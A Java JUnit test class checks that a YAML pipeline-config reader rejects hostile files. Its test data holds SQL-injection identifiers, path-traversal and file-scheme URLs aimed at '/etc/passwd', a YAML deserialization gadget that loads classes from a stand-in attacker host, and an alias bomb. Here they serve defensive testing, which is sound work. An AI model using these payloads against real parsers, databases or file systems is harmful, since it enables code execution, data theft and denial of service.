package dev.sluice.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Pipeline files written by an attacker: every SQL name that could break out of its quotes is rejected with the
 * file, line and field; reserved words are accepted (they are always quoted, see {@code ReservedWordsIT}); local
 * files outside the allowed directories cannot be reached by any spelling; YAML tricks are inert.
 */
class HostilePipelineFileTest {
    private static final String TEMPLATE = """
            name: hostile
            sources:
              - name: %s
                url: %s
                key: [n]
                columns:
                  - { header: Day, as: %s, type: date }
                  - { header: n, type: integer }
            target:
              schema: %s
              table: %s
            """;

    private final PipelineFileReader reader = new PipelineFileReader(Trust.none());

    private static String file(String source, String url, String column, String schema, String table) {
        return TEMPLATE.formatted(source, url, column, schema, table);
    }

    @Test
    void a_50_mb_value_is_refused_before_the_yaml_parser_reads_it(
            @org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws java.io.IOException {
        java.nio.file.Path file = dir.resolve("huge.yaml");
        try (java.io.Writer out = java.nio.file.Files.newBufferedWriter(file)) {
            out.write("name: huge\ndescription: \"");
            char[] chunk = new char[1 << 20];
            java.util.Arrays.fill(chunk, 'x');
            for (int i = 0; i < 50; i++) {
                out.write(chunk);
            }
            out.write("\"\n");
        }
        // Parsing it took minutes (quadratic in the scalar's length); the size is checked first.
        PipelineConfigException e = org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                java.time.Duration.ofSeconds(10),
                () -> catchThrowableOfType(PipelineConfigException.class, () -> reader.read(file.toString())));
        assertThat(e.getMessage())
                .contains("the file is 52,428,827 bytes; pipeline and notifications files are at most" + " 1,048,576");
    }

    /**
     * A template over 10,000 days of a 100 KB URL was a gigabyte of addresses before a byte was read, and the run died
     * of OutOfMemoryError, unrecorded: what a file makes sluice allocate is bounded where it is read.
     */
    @Test
    void addresses_a_file_makes_sluice_hold_are_bounded_in_length_and_in_all() {
        String longUrl = "https://example.org/" + "a".repeat(100_000) + "/{date:yyyy-MM-dd}.csv";
        PipelineConfigException tooLong =
                rejected(file("s", longUrl + "\n    dates: { last: 10000 }", "day", "public", "t"));
        assertThat(tooLong.field()).isEqualTo("sources[0].url");
        assertThat(tooLong.problem()).contains("a URL or path is at most 2,048");

        String url = "https://example.org/" + "a".repeat(1_900) + "/{date:yyyy-MM-dd}.csv";
        PipelineConfigException tooMany =
                rejected(file("s", url + "\n    dates: { last: 10000 }", "day", "public", "t"));
        assertThat(tooMany.field()).isEqualTo("sources[0].dates.last");
        assertThat(tooMany.problem()).contains("more than 4,000,000 characters of addresses");
    }

    private PipelineConfigException rejected(String yaml) {
        PipelineConfigException e = catchThrowableOfType(
                PipelineConfigException.class, () -> reader.parse("hostile.yaml", yaml, Optional.empty()));
        assertThat(e).as("expected the file to be rejected:%n%s", yaml).isNotNull();
        assertThat(e.getMessage()).startsWith("hostile.yaml:");
        return e;
    }

    static Stream<Arguments> hostileNames() {
        return Stream.of(
                        "\"x\"",
                        "x\"; drop table runs; --",
                        "x;y",
                        "a b",
                        "Day",
                        "1st",
                        "x'y",
                        "x--y",
                        "x.y",
                        "\"\"",
                        "ä",
                        "x\\y",
                        "a".repeat(64),
                        "pg_catalog.pg_authid")
                .map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("hostileNames")
    void a_name_that_could_leave_its_quotes_is_rejected_wherever_it_appears(String name) {
        String quoted = "'" + name.replace("'", "''") + "'";
        String url = "https://example.org/a.csv";
        assertThat(rejected(file(quoted, url, "day", "public", "t")).field()).isEqualTo("sources[0].name");
        assertThat(rejected(file("s", url, quoted, "public", "t")).field()).isEqualTo("sources[0].columns[0].as");
        assertThat(rejected(file("s", url, "day", quoted, "t")).field()).isEqualTo("target.schema");
        assertThat(rejected(file("s", url, "day", "public", quoted)).field()).isEqualTo("target.table");
    }

    @Test
    void reserved_words_are_accepted_and_always_quoted() {
        PipelineSpec spec = reader.parse(
                "reserved.yaml",
                file("select", "https://example.org/a.csv", "order", "public", "user"),
                Optional.empty());
        assertThat(spec.target().qualifiedName()).isEqualTo("\"public\".\"user\"");
        assertThat(spec.sources().get(0).name()).isEqualTo("select");
        assertThat(spec.sources().get(0).columns().get(0).name()).isEqualTo("order");
    }

    @Test
    void a_header_may_be_any_text_because_it_is_never_sql() {
        PipelineSpec spec = reader.parse(
                "headers.yaml",
                TEMPLATE.replace("header: Day", "header: \"Day\\\"; drop\"")
                        .formatted("s", "https://example.org/a.csv", "day", "public", "t"),
                Optional.empty());
        assertThat(spec.sources().get(0).columns().get(0).header()).isEqualTo("Day\"; drop");
        assertThat(spec.sources().get(0).columns().get(0).name()).isEqualTo("day");
    }

    static Stream<Arguments> escapingUrls() {
        return Stream.of(
                        "file:../secret.csv",
                        "file:data/../../secret.csv",
                        "file:%2e%2e/secret.csv",
                        "file:data/%2e%2e/%2e%2e/secret.csv",
                        "file:/etc/passwd",
                        "file:///etc/passwd",
                        "file://localhost/etc/passwd",
                        "file:link-out/secret.csv",
                        "file:data/link-up/secret.csv",
                        "ftp://example.org/a.csv",
                        "jar:file:/tmp/x.jar!/a.csv",
                        "javascript:alert(1)",
                        "http:///no-host.csv")
                .map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("escapingUrls")
    void a_url_cannot_reach_outside_the_directories_the_user_allowed(String url, @TempDir Path root)
            throws IOException {
        Path pipelines = Files.createDirectories(root.resolve("pipelines"));
        Path data = Files.createDirectories(pipelines.resolve("data"));
        Files.writeString(root.resolve("secret.csv"), "Day,n\n2020-01-01,1\n");
        Files.writeString(data.resolve("ok.csv"), "Day,n\n2020-01-01,1\n");
        Files.createSymbolicLink(pipelines.resolve("link-out"), root);
        Files.createSymbolicLink(data.resolve("link-up"), root);
        Path file = pipelines.resolve("p.yaml");
        Files.writeString(file, file("s", url, "day", "public", "t"));

        PipelineConfigException e =
                catchThrowableOfType(PipelineConfigException.class, () -> reader.read(file.toString()));
        assertThat(e).as(url).isNotNull();
        assertThat(e.field()).isEqualTo("sources[0].url");
        assertThat(e.getMessage()).startsWith(file + ":4:");

        Files.writeString(file, file("s", "file:data/ok.csv", "day", "public", "t"));
        assertThat(((SourceLocation.Single)
                                reader.read(file.toString()).sources().get(0).location())
                        .url())
                .isEqualTo(data.resolve("ok.csv").toUri());
    }

    @Test
    void yaml_tags_are_data_never_code() {
        PipelineConfigException e = rejected(file(
                "s",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                        + " [[!!java.net.URL [\"http://attacker.example/\"]]]]",
                "day",
                "public",
                "t"));
        assertThat(e.field()).isEqualTo("sources[0].url");
    }

    @Test
    void an_alias_bomb_is_rejected_quickly() {
        StringBuilder bomb = new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char p = (char) (c - 1);
            bomb.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append("]\n");
        }
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            PipelineConfigException e = catchThrowableOfType(
                    PipelineConfigException.class,
                    () -> reader.parse(
                            "bomb.yaml",
                            bomb + TEMPLATE.formatted("s", "https://example.org/a.csv", "day", "public", "t"),
                            Optional.empty()));
            assertThat(e).isNotNull();
        });
    }
}
